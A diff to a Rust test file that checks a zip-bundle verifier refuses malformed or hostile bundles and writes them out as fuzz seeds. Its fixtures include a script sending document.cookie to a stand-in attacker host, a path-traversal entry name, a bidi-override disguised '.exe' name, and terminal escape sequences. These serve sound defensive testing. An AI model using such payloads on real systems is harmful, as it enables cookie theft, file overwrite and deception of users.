@@ -281,11 +281,12 @@ fn a_rebuilt_bundle_passes_so_the_refusals_below_are_the_patches() {
     assert_eq!(r.code, 0, "Zip64 extras:\n{}{}", r.out(), r.err());
 }
 
-#[test]
-fn verify_refuses_a_local_name_that_differs_from_the_directory() {
-    let dir = TestDir::new("verify-local-name");
-    let zip = cujs_bundle(&dir, "real.zip");
-    let mut d = fs::read(&zip).unwrap();
+type Case = (&'static str, Vec<u8>, &'static str);
+
+/// The real bundle with the video's local header naming `../../…a.jspp`
+/// (same length): (bytes, the directory's name, the local name).
+fn local_name_case(good: &[u8]) -> (Vec<u8>, String, String) {
+    let mut d = good.to_vec();
     // The first entry is the video; its local header is at 0.
     let nlen = u16_at(&d, 26);
     let name = String::from_utf8(d[30..30 + nlen].to_vec()).unwrap();
@@ -294,6 +295,14 @@ fn verify_refuses_a_local_name_that_differs_from_the_directory() {
     evil.push_str(".jspp");
     assert_eq!(evil.len(), nlen);
     d[30..30 + nlen].copy_from_slice(evil.as_bytes());
+    (d, name, evil)
+}
+
+#[test]
+fn verify_refuses_a_local_name_that_differs_from_the_directory() {
+    let dir = TestDir::new("verify-local-name");
+    let zip = cujs_bundle(&dir, "real.zip");
+    let (d, name, evil) = local_name_case(&fs::read(&zip).unwrap());
     let p = dir.join("local-name.zip");
     fs::write(&p, &d).unwrap();
 
@@ -316,11 +325,10 @@ fn verify_refuses_a_local_name_that_differs_from_the_directory() {
     assert!(r.stdout.is_empty(), "no report: {}", r.out());
 }
 
-#[test]
-fn verify_refuses_every_local_header_field_that_differs() {
-    let dir = TestDir::new("verify-local-fields");
-    let zip = cujs_bundle(&dir, "real.zip");
-    let good = fs::read(&zip).unwrap();
+/// The real bundle with one field of the second entry's local header (or
+/// its central offset, or the end) patched; and that entry's name.
+fn field_cases(good: &[u8]) -> (Vec<Case>, String) {
+    let good = good.to_vec();
     let cds = central_records(&good);
     // The second entry's local header (a small file after the video).
     let second = u32_at(&good, cds[1] + 42) as usize;
@@ -337,7 +345,7 @@ fn verify_refuses_every_local_header_field_that_differs() {
         let v = u32_at(&good, at) ^ 0x0100_0001;
         patch(at, &v.to_le_bytes())
     };
-    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
+    let cases: Vec<Case> = vec![
         // No UTF-8 flag in the local header: a streaming reader decodes the
         // name as CP437 or the system's code page.
         (
@@ -388,6 +396,14 @@ fn verify_refuses_every_local_header_field_that_differs() {
             "not at the very end",
         ),
     ];
+    (cases, second_name)
+}
+
+#[test]
+fn verify_refuses_every_local_header_field_that_differs() {
+    let dir = TestDir::new("verify-local-fields");
+    let zip = cujs_bundle(&dir, "real.zip");
+    let (cases, second_name) = field_cases(&fs::read(&zip).unwrap());
     let mut failures = Vec::new();
     for (what, bytes, en_has) in cases {
         let r = verify(&dir, &bytes, "field", &[]);
@@ -407,13 +423,13 @@ fn verify_refuses_every_local_header_field_that_differs() {
     assert_no_failures(&failures);
 }
 
-#[test]
-fn verify_refuses_entries_out_of_line_with_the_stream() {
-    let dir = TestDir::new("verify-layout");
-    let zip = cujs_bundle(&dir, "real.zip");
-    let entries = entries_of(&zip);
+/// The real bundle's entries written again with something out of line
+/// with the stream: data before, between or inside entries, a name twice,
+/// Zip64 sizes that differ, a Unicode Path, a data descriptor.
+fn layout_cases(entries: &[E]) -> Vec<Case> {
+    let entries = entries.to_vec();
     let mz = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff This program cannot be run in DOS mode.".to_vec();
-    let mut cases: Vec<(&str, Vec<u8>, &str)> = Vec::new();
+    let mut cases: Vec<Case> = Vec::new();
 
     // A program before the zip (a self-extractor): readers that start at
     // byte 0 see it, the directory does not.
@@ -558,7 +574,14 @@ fn verify_refuses_entries_out_of_line_with_the_stream() {
         write_zip(&[], &dd, &[]),
         "data descriptor",
     ));
+    cases
+}
 
+#[test]
+fn verify_refuses_entries_out_of_line_with_the_stream() {
+    let dir = TestDir::new("verify-layout");
+    let zip = cujs_bundle(&dir, "real.zip");
+    let cases = layout_cases(&entries_of(&zip));
     let mut failures = Vec::new();
     for (what, bytes, en_has) in cases {
         let r = verify(&dir, &bytes, "layout", &[]);
@@ -572,11 +595,9 @@ fn verify_refuses_entries_out_of_line_with_the_stream() {
     assert_no_failures(&failures);
 }
 
-#[test]
-fn verify_refuses_entries_the_manifest_does_not_list() {
-    let dir = TestDir::new("verify-unlisted");
-    let zip = cujs_bundle(&dir, "real.zip");
-    let entries = entries_of(&zip);
+/// The real bundle's entries with files added that the manifest does not
+/// list: (what, bytes, the added names).
+fn unlisted_cases(entries: &[E]) -> Vec<(&'static str, Vec<u8>, Vec<String>)> {
     let readme = E::new(
         "readme.html",
         b"<html><script>location='https://evil.example/'+document.cookie</script></html>".to_vec(),
@@ -586,20 +607,32 @@ fn verify_refuses_entries_the_manifest_does_not_list() {
         b"MZ\x90\x00 This program cannot be run in DOS mode.".to_vec(),
     );
     let second = E::new("作品视频（完整版）.mp4", entries[0].data.clone());
-    let mut failures = Vec::new();
-    for (what, added) in [
+    [
         ("readme.html", vec![readme.clone()]),
         ("setup.exe", vec![exe.clone()]),
         ("a second video", vec![second.clone()]),
         ("all three", vec![readme, exe, second]),
-    ] {
-        let mut v = entries.clone();
-        let names: Vec<String> = added
+    ]
+    .into_iter()
+    .map(|(what, added)| {
+        let names = added
             .iter()
             .map(|e| String::from_utf8(e.name.clone()).unwrap())
             .collect();
+        let mut v = entries.to_vec();
         v.splice(1..1, added);
-        let r = verify(&dir, &write_zip(&[], &v, &[]), "unlisted", &[]);
+        (what, write_zip(&[], &v, &[]), names)
+    })
+    .collect()
+}
+
+#[test]
+fn verify_refuses_entries_the_manifest_does_not_list() {
+    let dir = TestDir::new("verify-unlisted");
+    let zip = cujs_bundle(&dir, "real.zip");
+    let mut failures = Vec::new();
+    for (what, bytes, names) in unlisted_cases(&entries_of(&zip)) {
+        let r = verify(&dir, &bytes, "unlisted", &[]);
         eprintln!("{what}: {}", r.err().lines().nth(1).unwrap_or(""));
         if let Err(e) = check_error(&r, "bad_bundle", "the manifest does not list") {
             failures.push(format!("{what}: {e}"));
@@ -612,15 +645,43 @@ fn verify_refuses_entries_the_manifest_does_not_list() {
     assert_no_failures(&failures);
 }
 
+const ESC_TITLE: &str = "黑洞\u{1b}[2K\u{1b}[1A\u{1b}]0;pwned\u{7}\u{9b}31m的秘密";
+const BIDI_NAME: &str = "clip\u{202e}4pm.exe\u{200b}\u{feff}.mp4";
+const ESC_NAME: &str = "\u{1b}[2J\u{1b}]0;pwned\u{7}.txt";
+
+/// The bundle's entries with the manifest's title and the video's name
+/// replaced by text a terminal acts on (the manifest kept consistent).
+fn escape_case(entries: &[E]) -> Vec<u8> {
+    let mut entries = entries.to_vec();
+    let old_name = String::from_utf8(entries[0].name.clone()).unwrap();
+    entries[0].name = BIDI_NAME.as_bytes().to_vec();
+    let mut m = manifest_of(&entries);
+    m["form"]["title"] = ESC_TITLE.into();
+    for f in m["files"].as_array_mut().unwrap() {
+        if f["name"] == old_name.as_str() {
+            f["name"] = BIDI_NAME.into();
+        }
+    }
+    set_manifest(&mut entries, m);
+    write_zip(&[], &entries, &[])
+}
+
+/// The bundle's entries and one more whose name holds ESC sequences.
+fn escape_name_case(entries: &[E]) -> Vec<u8> {
+    let mut e = entries.to_vec();
+    e.push(E::new(ESC_NAME, b"x".to_vec()));
+    write_zip(&[], &e, &[])
+}
+
 /// An Inner Mongolia bundle (its report compares the video's name with the
-/// form's title, and shows both when they differ), with the manifest's title and the video's
-/// name replaced by text a terminal acts on.
+/// form's title, and shows both when they differ), with the manifest's title
+/// and the video's name replaced by text a terminal acts on.
 #[test]
 fn verify_shows_names_and_form_values_escaped() {
     let dir = TestDir::new("verify-escape");
     let form = write_json(
         &dir,
-        "hlj.json",
+        "nmg.json",
         serde_json::json!({"unit": "某科普中心", "title": "黑洞的秘密"}),
     );
     let zip = dir.join("nmg.zip");
@@ -643,20 +704,7 @@ fn verify_shows_names_and_form_values_escaped() {
         ],
     );
     assert_eq!(r.code, 1, "forced bundle:\n{}{}", r.out(), r.err());
-    let mut entries = entries_of(&zip);
-    let title = "黑洞\u{1b}[2K\u{1b}[1A\u{1b}]0;pwned\u{7}\u{9b}31m的秘密";
-    let video_name = "clip\u{202e}4pm.exe\u{200b}\u{feff}.mp4";
-    let old_name = String::from_utf8(entries[0].name.clone()).unwrap();
-    entries[0].name = video_name.as_bytes().to_vec();
-    let mut m = manifest_of(&entries);
-    m["form"]["title"] = title.into();
-    for f in m["files"].as_array_mut().unwrap() {
-        if f["name"] == old_name.as_str() {
-            f["name"] = video_name.into();
-        }
-    }
-    set_manifest(&mut entries, m);
-    let bytes = write_zip(&[], &entries, &[]);
+    let bytes = escape_case(&entries_of(&zip));
 
     let r = verify(&dir, &bytes, "escape", &[]);
     let out = r.out();
@@ -683,7 +731,7 @@ fn verify_shows_names_and_form_values_escaped() {
         r.out()
     );
     let j: serde_json::Value = serde_json::from_slice(&r.stdout).expect("JSON");
-    assert_eq!(j["files"][0]["name"], video_name);
+    assert_eq!(j["files"][0]["name"], BIDI_NAME);
     let text = r.out();
     assert!(
         text.contains("\\u001b[2K") && text.contains("\\u202e"),
@@ -691,9 +739,12 @@ fn verify_shows_names_and_form_values_escaped() {
     );
 
     // A name with ESC in the zip itself is refused, and shown escaped.
-    let mut e2 = entries_of(&zip);
-    e2.push(E::new("\u{1b}[2J\u{1b}]0;pwned\u{7}.txt", b"x".to_vec()));
-    let r = verify(&dir, &write_zip(&[], &e2, &[]), "escape-name", &[]);
+    let r = verify(
+        &dir,
+        &escape_name_case(&entries_of(&zip)),
+        "escape-name",
+        &[],
+    );
     assert_error(
         &r,
         "bad_bundle",
@@ -701,4 +752,97 @@ fn verify_shows_names_and_form_values_escaped() {
         "ESC in a name",
     );
     assert!(!has_raw_controls(&r.stderr), "{:?}", r.err());
+}
+
+// ---------------------------------------------------------------- fuzz seeds
+
+fn seeds_dir() -> std::path::PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz/seeds/verify")
+}
+
+/// A seed's file name from a case's description.
+fn slug(what: &str) -> String {
+    what.chars()
+        .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
+        .collect::<String>()
+        .to_lowercase()
+}
+
+/// Writes every hostile bundle above, made from a small bundle (the 64×36
+/// fixture, `--force`), into `fuzz/seeds/verify/` as seeds for the `verify`
+/// fuzz target. Run by hand: `cargo test --test verify -- --ignored write_fuzz_seeds`.
+#[test]
+#[ignore]
+fn write_fuzz_seeds() {
+    let dir = TestDir::new("verify-seeds");
+    let zip = dir.join("small.zip");
+    let tiny = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/tiny.mp4");
+    let r = preflight(
+        &dir.0,
+        &[
+            "bundle",
+            "--profile",
+            CUJS,
+            "--video",
+            tiny.to_str().unwrap(),
+            "-o",
+            zip.to_str().unwrap(),
+            "--force",
+        ],
+    );
+    assert_eq!(r.code, 1, "{}{}", r.out(), r.err());
+    let good = fs::read(&zip).unwrap();
+    let entries = entries_of(&zip);
+    let out = seeds_dir();
+    let _ = fs::remove_dir_all(&out);
+    fs::create_dir_all(&out).unwrap();
+    let mut seeds: Vec<(String, Vec<u8>)> = vec![
+        ("ok-bundle".into(), good.clone()),
+        ("ok-escaped-names".into(), escape_case(&entries)),
+        ("local-name".into(), local_name_case(&good).0),
+        ("escape-name".into(), escape_name_case(&entries)),
+    ];
+    seeds.extend(
+        field_cases(&good)
+            .0
+            .into_iter()
+            .map(|c| (format!("field-{}", slug(c.0)), c.1)),
+    );
+    seeds.extend(
+        layout_cases(&entries)
+            .into_iter()
+            .map(|c| (format!("layout-{}", slug(c.0)), c.1)),
+    );
+    seeds.extend(
+        unlisted_cases(&entries)
+            .into_iter()
+            .map(|c| (format!("unlisted-{}", slug(c.0)), c.1)),
+    );
+    for (name, bytes) in seeds {
+        fs::write(out.join(format!("{name}.zip")), bytes).unwrap();
+    }
+}
+
+/// The seeds as `verify` sees them: the two `ok-` ones verify, every other
+/// one is refused as a bad bundle, none panics.
+#[test]
+fn fuzz_seeds_verify_as_named() {
+    let mut n = 0;
+    let mut failures = Vec::new();
+    for e in fs::read_dir(seeds_dir()).expect("fuzz/seeds/verify") {
+        let p = e.unwrap().path();
+        let name = p.file_name().unwrap().to_string_lossy().into_owned();
+        let bytes = fs::read(&p).unwrap();
+        let got = preflight::verify::verify(std::io::Cursor::new(&bytes), bytes.len() as u64);
+        n += 1;
+        match (name.starts_with("ok-"), got) {
+            (true, Ok(_)) => {}
+            (false, Err(e)) if e.code == "bad_bundle" => {}
+            (true, Err(e)) => failures.push(format!("{name}: refused: {}", e.message_en)),
+            (false, Err(e)) => failures.push(format!("{name}: {} ({})", e.code, e.message_en)),
+            (false, Ok(_)) => failures.push(format!("{name}: verified")),
+        }
+    }
+    assert!(n >= 25, "only {n} seeds in fuzz/seeds/verify");
+    assert_no_failures(&failures);
 }
